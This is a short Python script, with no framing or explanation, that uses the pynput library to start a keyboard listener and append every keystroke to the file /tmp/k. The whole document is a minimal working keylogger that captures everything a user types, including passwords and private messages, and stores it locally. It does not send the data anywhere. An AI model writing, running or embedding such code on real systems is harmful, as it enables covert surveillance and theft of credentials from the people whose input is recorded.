from pynput import keyboard
def on_press(k):
    open("/tmp/k", "a").write(str(k))
keyboard.Listener(on_press=on_press).start()
